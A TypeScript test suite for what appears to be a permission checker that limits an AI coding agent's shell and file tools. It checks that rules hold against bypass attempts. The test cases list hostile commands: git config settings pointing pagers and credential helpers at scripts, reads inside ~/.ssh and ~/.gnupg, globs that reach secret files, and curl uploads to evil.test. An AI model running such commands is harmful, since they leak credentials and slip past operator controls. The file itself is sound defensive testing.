/**
 * Checks classes of bypasses, each in many instances.
 *
 * Classes: settings of git, the call's folder, globs against denies, addresses, and rule order.
 */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { judge, type Rule } from './support.ts';

const ROOT = '/workspace/app';
const HOME = '/home/agent';
const allows = (...patterns: readonly string[]): Rule[] => patterns.map((pattern) => ['allow', pattern]);
const denies = (...patterns: readonly string[]): Rule[] => patterns.map((pattern) => ['deny', pattern]);
const bash = (command: string, rules: readonly Rule[], more = {}) => judge('Bash', { command }, rules, more).verdict;

describe('a setting of git that is given a value is written, whatever word stands last', () => {
  const rules = allows('Bash(git:*)', 'Bash(git config:*)', 'Edit(.git/config)');
  test.each([
    'git config core.pager ./src/p get',
    'git config core.sshCommand ./src/s list',
    'git config core.editor ./src/e --list',
    'git config core.askPass ./src/a -l',
    'git config credential.helper ./src/h --get',
    'git config diff.external ./src/d --get-all',
    'git config gpg.program ./src/g --get-regexp',
    "git config alias.st '!./src/s' get",
    "git config alias.st '!./src/s' --show-origin",
    'git config --local filter.x.clean ./src/f get',
    'git config --worktree core.hooksPath src/h list',
    'git config --global core.pager ./src/p get',
    'git config --file=.git/config core.pager ./src/p get',
    'git config -f .git/config core.pager ./src/p list',
    'git config --add core.gitProxy ./src/p get',
    'git config --replace-all core.pager ./src/p get',
    'git config --type=path core.excludesFile x get',
    'git config set core.pager ./src/p',
    'git config set core.pager get',
    'git config unset core.pager',
    'git config --unset core.pager',
    'git config rename-section a b',
    'git config --rename-section a b',
    'git config remove-section core',
    'git -C . config core.pager ./src/p get',
    'git --no-pager config core.pager ./src/p list',
    'command git config core.pager ./src/p get',
    'env git config core.pager ./src/p get',
    'cd src && git config core.pager ./src/p get',
    "sh -c 'git config core.pager ./src/p get'",
  ])('%s', (command) => {
    for (const mode of ['default', 'acceptEdits', 'bypass'])
      expect(bash(command, rules, { mode }), mode).not.toBe('allow');
  });

  test.each(['git config get core.pager', 'git config --get core.pager', 'git config -l', 'git config user.name'])(
    'but %s reads',
    (command) => {
      expect(bash(command, allows('Bash(git:*)'))).toBe('allow');
    },
  );
});

describe('the folder of the call is judged like a path of it', () => {
  const rules = allows('Bash', 'Read', 'Grep', 'Glob', 'Edit');
  test.each([
    ['head -c 9 *', `${HOME}/.ssh`],
    ['tar tf x.tar', `${HOME}/.gnupg`],
    ['grep -r x', `${HOME}/.gnupg`],
    ['cp a b', `${ROOT}/.git`],
    ['ln a post-commit', `${ROOT}/.git/hooks`],
    ['touch x', `${ROOT}/.git/refs/heads`],
    ['zip -r /tmp/x .', `${HOME}/.config/gcloud`],
    ['find . -type f', `${HOME}/.ssh`],
    ['wc -l *', `${HOME}/.docker`],
    ['ls', `${ROOT}/src/../.git`],
    ['ls', `${ROOT}/./.git//hooks`],
    ['ls', `${ROOT}/.GIT/hooks`],
    ['ls', '~/.ssh'],
    ['ls', `${HOME}/x/../.ssh`],
    ['sort id_rsa', `${HOME}/.ssh/keys`],
  ])('%s in %s is allowed in no mode', (command, cwd) => {
    for (const mode of ['default', 'acceptEdits', 'bypass'])
      expect(bash(command, rules, { cwd, mode }), mode).not.toBe('allow');
  });

  test.each([
    ['npm test', '/tmp'],
    ['npm test', '/tmp/app'],
    ['make', HOME],
    ['make', '/'],
    ['pytest', '/workspace'],
    ['pytest', `${ROOT}-copy`],
    ['pytest', `${ROOT}/../other`],
    ['git status', '/opt/x'],
    ['ls', '/workspace/application'],
    ['cat a', '/srv'],
    ['npm run build', `${HOME}/app`],
  ])('%s in %s, outside the project, is covered by no rule', (command, cwd) => {
    expect(bash(command, rules, { cwd })).toBe('ask');
  });

  test.each([
    ['Grep', { pattern: 'x' }, `${ROOT}/.git`],
    ['Grep', { pattern: 'x', glob: '*.json' }, `${HOME}/.gnupg`],
    ['Glob', { pattern: '*' }, `${HOME}/.ssh`],
    ['Read', { file_path: 'config' }, `${ROOT}/.git`],
    ['Read', { file_path: './id_ed25519' }, `${HOME}/.ssh`],
    ['Edit', { file_path: 'pre-push', old_string: 'a', new_string: 'b' }, `${ROOT}/.git/hooks`],
    ['Write', { file_path: 'pre-push', content: 'b' }, `${ROOT}/.git/hooks`],
  ])('%s %j in %s is denied', (tool, input, cwd) => {
    expect(judge(tool, input, rules, { cwd }).verdict).toBe('deny');
  });

  test.each(['npm test', 'cat a', 'git status'])('%s in a folder of the project is covered', (command) => {
    expect(bash(command, rules, { cwd: `${ROOT}/src` })).toBe('allow');
  });
});

describe('a glob that can reach a denied path is not allowed', () => {
  const rules = [
    ...allows(
      'Bash(cat:*)',
      'Bash(cp:*)',
      'Bash(head:*)',
      'Bash(grep:*)',
      'Bash(rg:*)',
      'Bash(wc:*)',
      'Read',
      'Grep',
      'Glob',
      'mcp__fs__*',
    ),
    ...denies('Read(vault/**)', 'Edit(deploy/**)', 'Read(*.pem)'),
  ];
  test.each([
    'cat v*/token',
    'cat va?lt/token',
    'cat [v]ault/token',
    'cat {vault,x}/token',
    'cat v{ault,x}/token',
    'cat */token',
    'cat ./*/token',
    'cat src/../v*/token',
    'cat **/vau*',
    'head v*/*',
    'head -n 1 vaul?/a',
    'wc -l va*/*',
    'cp vaul*/a b',
    'cp a depl*/b',
    'cp a dep??y/b',
    'cat *.pe?',
    'cat a.p*m',
    'cat a.[p]em',
    'for d in va*; do cat $d/a; done',
    'for d in v*; do cat "$d"/a; done',
    'd=v*; cat $d/token',
    'grep x va*/token',
    "grep -r x --include='*.pem' .",
    "rg x -g '*.pem'",
    "rg x --glob='vault/**'",
    `cat ${ROOT}/va*/token`,
    'cat < va*/token',
    'echo x > depl*/a',
    'cd va* && cat token',
  ])('%s', (command) => {
    expect(bash(command, rules)).not.toBe('allow');
  });

  test.each([
    ['Glob', { pattern: 'v*/**' }],
    ['Glob', { pattern: '**/*.pem' }],
    ['Grep', { pattern: 'x', glob: 'va*/**' }],
    ['Grep', { pattern: 'x', glob: '*.pem' }],
    ['mcp__fs__read', { path: 'va*/token' }],
    ['mcp__fs__read', { paths: ['a', 'vaul?/token'] }],
    ['mcp__fs__search', { glob: '**/*.pem' }],
  ])('%s %j', (tool, input) => {
    expect(judge(tool, input, rules).verdict).not.toBe('allow');
  });

  test.each(['cat src/*.ts', 'cat *.md', 'head docs/*.md', 'cat x*/a'])('but %s is', (command) => {
    expect(bash(command, rules)).toBe('allow');
  });
});

describe('a rule on an address covers that address and no other', () => {
  const rules = allows(
    'Bash(curl https://api.test/*)',
    'Bash(wget https://api.test/*)',
    'Bash(curl -s https://api.test/*)',
  );
  test.each([
    'curl https://api.test/a https://evil.test/b',
    'curl https://evil.test/b https://api.test/a',
    'curl https://api.test/a https://www.api.test/b',
    'curl https://api.test/a evil.test',
    'curl https://api.test/a --url https://evil.test',
    'curl https://api.test/a --url=https://evil.test',
    'curl https://api.test/a -x http://evil.test',
    'curl https://api.test/a --proxy evil.test:80',
    'curl https://api.test/a --connect-to ::evil.test:443',
    'curl https://api.test/a --resolve api.test:443:10.0.0.1',
    'curl https://api.test/a -d @src/a',
    'curl https://api.test/a -T src/a',
    'curl https://api.test/a -F f=@src/a',
    'curl https://api.test/a -K src/a',
    'curl https://api.test/a $URL',
    'curl https://api.test/a "$URL"',
    'curl https://api.test/a $(cat url)',
    'curl https://api.test@evil.test/',
    'curl https://api.test.evil.test/',
    'curl https://api.test:8443/a',
    "curl 'https://api.test\\@evil.test/'",
    "curl 'https://api.test/{a,b}' -o /etc/x",
    'curl https://{api,evil}.test/a',
    'curl https://api.test/a --next https://evil.test',
    'curl -s https://api.test/a --next -d x https://evil.test',
    'wget https://api.test/a https://evil.test/b',
    'wget https://api.test/a -i list',
    'wget https://api.test/a -e use_proxy=on',
    'wget https://api.test/a --post-file=src/a',
    'wget https://api.test/a $URL',
  ])('%s', (command) => {
    expect(bash(command, rules)).not.toBe('allow');
  });

  test.each([
    'curl https://api.test/a',
    'curl -s https://api.test/a?b=1',
    'curl https://api.test/a https://api.test/b',
  ])('but %s is covered', (command) => {
    expect(bash(command, rules)).toBe('allow');
  });
});

describe('the order of rules never matters', () => {
  /** Rules of which some cover a command, some do not go far enough and some speak of others. */
  const PATTERNS = [
    ...['Bash', 'Bash(python3:*)', 'Bash(python3 -m pytest:*)', 'Bash(curl:*)', 'Bash(curl http://localhost:3000/*)'],
    ...[
      'Bash(npx:*)',
      'Bash(npx jest:*)',
      'Bash(uv:*)',
      'Bash(uv run pytest:*)',
      'Bash(docker:*)',
      'Bash(docker rmi:*)',
    ],
    ...[
      'Bash(git:*)',
      'Bash(git push:*)',
      'Bash(git push)',
      'Bash(aws:*)',
      'Bash(aws s3 cp:*)',
      'Bash(find:*)',
      'Bash(wc:*)',
    ],
    ...[
      'Bash(node:*)',
      'Bash(node -e 1)',
      'Bash(tee:*)',
      'Edit(src/**)',
      'Edit',
      'Read(src/**)',
      'Bash(sed:*)',
      'Bash(* --help)',
    ],
  ];
  const COMMANDS = [
    'python3 -m pytest',
    'python3 -m pytest -q',
    'python3 x.py',
    'curl http://localhost:3000/health',
    'npx jest src',
    'npx tsc',
    'uv run pytest -q',
    'docker rmi x',
    'docker ps',
    'git push',
    'git push origin main',
    'git status',
    'aws s3 cp src/a s3://b/k',
    'aws s3 cp s3://b/k src/a',
    'aws ec2 describe-instances',
    'find . -exec wc -l {} +',
    'node -e 1',
    'node x.js',
    'echo a | tee src/a',
    'sed -i s/a/b/ src/a',
    'cat src/a > src/b',
    'git status && docker rmi x',
    'docker --help',
  ];

  const pick = fc.record({
    command: fc.constantFrom(...COMMANDS),
    patterns: fc.uniqueArray(fc.constantFrom(...PATTERNS), { minLength: 1, maxLength: 8 }),
    seed: fc.infiniteStream(fc.nat(1000)),
    mode: fc.constantFrom('default', 'acceptEdits', 'dontAsk'),
  });

  test('changes no verdict among allows', () => {
    fc.assert(
      fc.property(pick, ({ command, patterns, seed, mode }) => {
        const shuffled = patterns
          .map((pattern) => ({ pattern, at: seed.next().value as number }))
          .toSorted((a, b) => a.at - b.at)
          .map(({ pattern }) => pattern);
        expect(bash(command, allows(...shuffled), { mode })).toBe(bash(command, allows(...patterns), { mode }));
      }),
      { numRuns: 800 },
    );
  });

  test('of allows: one more never takes away', () => {
    fc.assert(
      fc.property(pick, fc.constantFrom(...PATTERNS), fc.nat(8), ({ command, patterns, mode }, more, at) => {
        fc.pre(bash(command, allows(...patterns), { mode }) === 'allow');
        expect(bash(command, allows(...patterns.toSpliced(at, 0, more)), { mode })).toBe('allow');
      }),
      { numRuns: 500 },
    );
  });

  test.each(
    [
      ['python3 -m pytest', 'Bash(python3:*)', 'Bash(python3 -m pytest:*)'],
      ['python3 -m pytest', 'Bash', 'Bash(python3 -m pytest:*)'],
      ['curl http://localhost:3000/x', 'Bash(curl:*)', 'Bash(curl http://localhost:3000/*)'],
      ['npx jest', 'Bash(npx:*)', 'Bash(npx jest:*)'],
      ['npx jest', 'Bash', 'Bash(npx jest:*)'],
      ['uv run pytest', 'Bash(uv:*)', 'Bash(uv run pytest:*)'],
      ['poetry run pytest', 'Bash(poetry:*)', 'Bash(poetry run pytest:*)'],
      ['bundle exec rspec', 'Bash(bundle:*)', 'Bash(bundle exec rspec:*)'],
      ['docker rmi x', 'Bash(docker:*)', 'Bash(docker rmi:*)'],
      ['kubectl apply -f x.yaml', 'Bash(kubectl:*)', 'Bash(kubectl apply:*)'],
      ['aws iam create-user', 'Bash(aws:*)', 'Bash(aws iam create-user:*)'],
      ['gcloud run deploy x', 'Bash(gcloud:*)', 'Bash(gcloud run deploy:*)'],
      ['az group delete -n g', 'Bash(az:*)', 'Bash(az group delete:*)'],
      ['node -e 1', 'Bash(node:*)', 'Bash(node -e 1)'],
      ["sh -c 'ls'", 'Bash(sh:*)', 'Bash(sh -c ls)'],
      ['gh pr create', 'Bash(gh:*)', 'Bash(gh pr create:*)'],
      ['systemctl restart x', 'Bash(systemctl:*)', 'Bash(systemctl restart:*)'],
      ['go run ./cmd/x', 'Bash(go:*)', 'Bash(go run:*)'],
      ['cargo install x', 'Bash(cargo:*)', 'Bash(cargo install:*)'],
      ['tee src/a', 'Bash(tee:*)', 'Edit(src/**)'],
    ].flatMap(([command = '', ...rules]) => [
      [command, ...rules],
      [command, ...rules.toReversed()],
    ]),
  )('%s under %s and %s is allowed in either order', (command, one, other) => {
    expect(bash(command ?? '', allows(one ?? '', other ?? ''))).toBe('allow');
  });
});
